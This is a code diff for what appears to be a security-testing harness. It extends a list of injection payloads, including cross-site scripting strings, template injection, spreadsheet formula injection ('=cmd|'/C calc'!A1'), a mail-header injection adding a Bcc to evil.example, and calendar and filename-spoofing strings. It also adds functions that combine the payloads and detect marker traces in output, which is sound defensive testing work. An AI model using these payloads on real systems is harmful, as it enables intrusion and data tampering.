@@ -12,25 +12,68 @@ const TAGS = [
   `<meta ${MARK} http-equiv="refresh" content="0;url=https://evil.example/">`,
 ]
 
+interface Payload {
+  text: string
+  /** What only hurts at the beginning of a text: an address that runs on pages, a formula in tables. */
+  leads?: 'pages' | 'tables'
+}
+
 /**
  * Texts as somebody writes them who wants others to run them: out of attributes, comments, scripts, titles and data, as
  * addresses, templates, formulas, header lines and lines of calendars, and with letters that turn what follows around.
  */
-export const PAYLOADS: readonly string[] = [
-  `"'><!--></title></textarea></style></script>${TAGS.join('')}`,
-  `</script><script ${MARK}>${RUN}</script><!--<script>{"a":"\\u003cscript\\u003e`,
-  `" ${MARK}="1" onmouseover="${RUN}" onfocus="${RUN}" autofocus x="`,
-  `' ${MARK}='1' onmouseover='${RUN}' autofocus x='`,
-  `javascript:${RUN}//%0a${TAGS[0]}`,
-  `data:text/html,${TAGS[0]}`,
-  `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= 7*7 %>#{7*7}`,
-  `=cmd|'/C calc'!A1`,
-  `+cmd("pwned")`,
-  `@SUM(1+1)*cmd`,
-  `-2+3+cmd`,
-  `\tcmd\r=cmd`,
-  `x\r\nX-Pwned: 1\r\nBcc: everybody@evil.example\r\n\r\n${TAGS[1]}`,
-  `x\r\nEND:VEVENT\r\nX-PWNED:1\r\nBEGIN:VEVENT`,
-  `\u202Egnp.exe\u2066\u2028\u2029\u0000\u0008${TAGS[2]}]]>`,
-  `&lt;img ${MARK} src=x onerror=${RUN}&gt;&#60;script ${MARK}&#62;`,
+export const PAYLOADS: readonly Payload[] = [
+  { text: `"'><!--></title></textarea></style></script>${TAGS.join('')}` },
+  { text: `</script><script ${MARK}>${RUN}</script><!--<script>{"a":"\\u003cimg ${MARK} src=x\\u003e` },
+  { text: `" ${MARK} onmouseover="${RUN}" onfocus="${RUN}" autofocus x="` },
+  { text: `' ${MARK} onmouseover='${RUN}' autofocus x='` },
+  // Without a blank: of some names only the first word is shown.
+  { text: `javascript:${RUN}//%0a<img/${MARK}/src="x"/onerror="${RUN}">`, leads: 'pages' },
+  { text: `data:text/html,${TAGS[0]}`, leads: 'pages' },
+  { text: `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= 7*7 %>#{7*7}${TAGS[1]}` },
+  { text: `=cmd|'/C calc'!A1`, leads: 'tables' },
+  { text: `+cmd("pwned")`, leads: 'tables' },
+  { text: `@SUM(1+1)*cmd`, leads: 'tables' },
+  { text: `-2+3+cmd`, leads: 'tables' },
+  { text: `\tcmd\r=cmd`, leads: 'tables' },
+  { text: `x\r\nX-Pwned: 1\r\nBcc: everybody@evil.example\r\n\r\n${TAGS[1]}` },
+  { text: `x\r\nEND:VEVENT\r\nX-PWNED:1\r\nBEGIN:VEVENT` },
+  { text: `\u202Egnp.exe\u2066\u2028\u2029\u0000\u0008${TAGS[2]}]]>` },
+  { text: `&lt;img ${MARK} src=x onerror=${RUN}&gt;&#60;script ${MARK}&#62;` },
 ]
+
+type Numbered = Payload & { n: number }
+
+/** One writing of everything: a text that begins with this, if with anything, and goes on with all that hurts anywhere. */
+export interface Writing {
+  lead: Numbered | null
+  rest: readonly Numbered[]
+  /** What could be hurt by it as by no writing before: the first hurts everything, others pages or tables alone. */
+  hurts: 'everything' | 'pages' | 'tables'
+}
+
+/** As few writings as have every one of the first payloads where it can hurt. */
+export function writingsOf(count: number): Writing[] {
+  const payloads = PAYLOADS.slice(0, count).map((payload, n) => ({ ...payload, n }))
+  const rest = payloads.filter(({ leads }) => !leads)
+  const leads = payloads.filter((payload) => payload.leads)
+  if (leads.length === 0) return [{ lead: null, rest, hurts: 'everything' }]
+  return leads.map((lead, n) => ({ lead, rest, hurts: n === 0 ? 'everything' : (lead.leads ?? 'pages') }))
+}
+
+/**
+ * The text of a writing for one place. Its marks name the payload and the place, so that whoever finds one knows both.
+ * What follows the beginning follows in another order at every turn: of long texts only the beginning may be shown.
+ */
+export function hostileText({ lead, rest }: Writing, place: string, turn: number): string {
+  const from = rest.length === 0 ? 0 : turn % rest.length
+  return [...(lead ? [lead] : []), ...rest.slice(from), ...rest.slice(0, from)]
+    .map(({ n, text }) => text.replaceAll(MARK, `${MARK}=${n}.${place}`))
+    .join(' ')
+}
+
+/** The places whose marks are in a text, harmless as they may be there. */
+export const placesIn = (text: string): Set<string> =>
+  new Set([...text.matchAll(PLACED)].map(([, place = '']) => place))
+
+const PLACED = /data-pwned[=-]\d+\.([a-z_]+\.[a-z_]+)/gi
